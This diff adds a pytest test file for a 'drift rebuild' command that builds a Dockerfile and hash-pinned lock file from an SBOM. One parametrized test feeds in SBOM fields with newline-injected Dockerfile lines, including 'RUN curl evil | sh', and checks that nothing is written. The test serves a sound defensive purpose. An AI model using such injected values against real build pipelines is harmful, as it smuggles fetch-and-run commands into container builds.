@@ -1,0 +1,112 @@
+"""drift rebuild through a real subprocess: files, exit codes, nothing written on refusal."""
+
+from __future__ import annotations
+
+import json
+
+import pytest
+
+from tests.conftest import run_drift
+from tests.rebuild.helpers import component, golden_doc, reproducible_doc, write
+
+
+def test_writes_dockerfile_lock_and_dockerignore(tmp_path):
+    sbom = write(tmp_path, reproducible_doc())
+    out = tmp_path / "out"
+    done = run_drift("rebuild", str(sbom), "-o", str(out))
+    assert done.returncode == 0, done.stderr
+    assert sorted(p.name for p in out.iterdir()) == [
+        ".dockerignore",
+        "Dockerfile",
+        "requirements.lock",
+    ]
+    assert "--require-hashes" in (out / "Dockerfile").read_text()
+
+
+def test_unreproducible_is_exit_2_listing_them_and_nothing_written(tmp_path):
+    sbom = write(tmp_path, golden_doc())
+    out = tmp_path / "out"
+    done = run_drift("rebuild", str(sbom), "-o", str(out))
+    assert done.returncode == 2
+    assert "pypi:driftbom" in done.stderr
+    assert "--skip-unreproducible" in done.stderr
+    assert not out.exists()
+
+
+def test_no_resolve_says_so_loudly(tmp_path):
+    doc = golden_doc()
+    sbom = write(tmp_path, doc)
+    out = tmp_path / "out"
+    done = run_drift("rebuild", str(sbom), "-o", str(out), "--no-resolve", "--skip-unreproducible")
+    assert done.returncode == 0, done.stderr
+    assert "pins have no hashes" in done.stderr
+    assert "WARNING: some pins have no hashes" in (out / "requirements.lock").read_text()
+    assert "--require-hashes" not in (out / "Dockerfile").read_text()
+
+
+@pytest.mark.parametrize(
+    "mutate",
+    [
+        lambda d: component(d, "pypi:six").update(version="1.0\nRUN curl evil | sh"),
+        lambda d: component(d, "pypi:six").update(name="six\nRUN id"),
+    ],
+)
+def test_hostile_sbom_writes_nothing(tmp_path, mutate):
+    doc = reproducible_doc()
+    mutate(doc)
+    sbom = write(tmp_path, doc)
+    out = tmp_path / "out"
+    out.mkdir()
+    done = run_drift("rebuild", str(sbom), "-o", str(out))
+    assert done.returncode == 2
+    assert done.stderr.startswith("drift: error: pypi:six:")
+    assert len(done.stderr.strip().splitlines()) == 1
+    assert list(out.iterdir()) == []
+
+
+def test_bad_sbom_and_missing_parent(tmp_path):
+    assert run_drift("rebuild", str(tmp_path / "nope.json")).returncode == 2
+    sbom = write(tmp_path, reproducible_doc())
+    done = run_drift("rebuild", str(sbom), "-o", str(tmp_path / "a" / "b"))
+    assert done.returncode == 2
+    assert "cannot create" in done.stderr
+
+
+def test_build_without_engine_is_exit_2(tmp_path):
+    sbom = write(tmp_path, reproducible_doc())
+    done = run_drift(
+        "rebuild",
+        str(sbom),
+        "-o",
+        str(tmp_path / "out"),
+        "--build",
+        env={"DOCKER_HOST": "unix:///nonexistent/docker.sock"},
+    )
+    assert done.returncode == 2
+    assert "no Docker Engine answers" in done.stderr
+    assert "Traceback" not in done.stderr
+
+
+@pytest.mark.network
+def test_real_venv_sbom_pins_every_package_with_a_hash(tmp_path):
+    from tests.integration.venvs import make_venv
+    from tests.rebuild.test_dockerfile import hadolint
+
+    python = make_venv(tmp_path / "venv", "six==1.16.0", "attrs==23.2.0", "requests==2.32.3")
+    sbom = tmp_path / "venv.cdx.json"
+    assert (
+        run_drift("snapshot", "--python", str(python), "-o", str(sbom), cwd=tmp_path).returncode
+        == 0
+    )
+    out = tmp_path / "out"
+    done = run_drift("rebuild", str(sbom), "-o", str(out))
+    assert done.returncode == 0, done.stderr
+    lock = (out / "requirements.lock").read_text()
+    packages = [
+        c for c in json.loads(sbom.read_text())["components"] if c["bom-ref"].startswith("pypi:")
+    ]
+    for comp in packages:
+        entry = lock.split(f"{comp['name']}=={comp['version']} \\\n", 1)
+        assert len(entry) == 2, comp["name"]
+        assert entry[1].lstrip().startswith("--hash=sha256:"), comp["name"]
+    hadolint(out / "Dockerfile")
